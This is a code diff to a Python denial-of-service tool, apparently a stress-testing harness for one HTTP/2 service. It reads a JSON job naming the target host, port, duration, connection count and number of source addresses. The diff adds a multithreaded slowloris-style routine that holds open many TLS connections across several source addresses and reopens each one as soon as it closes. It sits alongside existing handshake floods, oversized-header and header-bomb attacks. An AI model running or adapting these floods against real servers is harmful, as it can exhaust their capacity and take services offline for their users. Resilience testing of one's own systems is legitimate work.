@@ -1,6 +1,6 @@
 """Floods: frames of HTTP/2 that cost whoever receives them more than whoever sends them, handshakes, connections, heads.
 
-Reads one line of JSON (attack, host, port, source, seconds, connections), attacks for so long, and prints one line: what it has sent and how
+Reads one line of JSON (attack, host, port, source, seconds, connections, addresses), attacks for so long, and prints one line: what it has sent and how
 its connections ended. Nothing that it receives is believed, and what it breaks is its own connections.
 """
 
@@ -32,12 +32,15 @@ PLAIN.verify_mode = ssl.CERT_NONE
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 PAGE = "/ucloud/hpc/intent/calls.json"
 DEPOSIT = "/ucloud/hpc/intents"
+# Threads that begin connections: most of a handshake is waiting.
+BEGINNERS = 8
 
 
 class Target:
     def __init__(self, told):
         self.host, self.port = told["host"], int(told["port"])
         self.source, self.connections = told["source"], int(told["connections"])
+        self.addresses = int(told.get("addresses", 1))
         self.end = time.monotonic() + float(told["seconds"])
 
     def is_over(self):
@@ -318,6 +321,44 @@ def begun(target, data, tls):
     return held(target, make)
 
 
+def held_again(target):
+    """As many connections as can be had from so many addresses, each with a request, and begun again whenever one is closed."""
+    counts, streams = collections.Counter(), {}
+
+    def begin(number):
+        try:
+            stream = target.from_another(number % target.addresses).tls(PLAIN)
+            stream.sendall(b"GET /x HTTP/1.1\r\nHost: localhost\r\n\r\n")
+            stream.setblocking(False)
+            streams[number] = stream
+            counts["begun"] += 1
+        except OSError:
+            counts["refused"] += 1
+
+    def work(first):
+        while not target.is_over():
+            for number in range(first, target.connections, BEGINNERS):
+                if target.is_over():
+                    return
+                if number in streams and not is_open(streams[number]):
+                    streams.pop(number).close()
+                    counts["closed"] += 1
+                if number not in streams:
+                    begin(number)
+            time.sleep(0.005)
+
+    threads = [threading.Thread(target=work, args=(first,)) for first in range(BEGINNERS)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    streams = {number: stream for number, stream in streams.items() if is_open(stream)}
+    counts["open"] = len(streams)
+    for stream in streams.values():
+        stream.close()
+    return {"ends": counts}
+
+
 def long_heads(target):
     line = b"X-A: " + b"a" * 31000
     return begun(target, b"GET / HTTP/1.1\r\nHost: localhost\r\n" + line, True)
@@ -455,6 +496,7 @@ ON_FRAMES = {
 OTHERS = {
     "handshakes": handshakes,
     "half handshakes": lambda target: begun(target, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", False),
+    "connections begun again": held_again,
     "silent connections": lambda target: begun(target, b"", False),
     "long heads": long_heads,
     "head bombs": head_bombs,
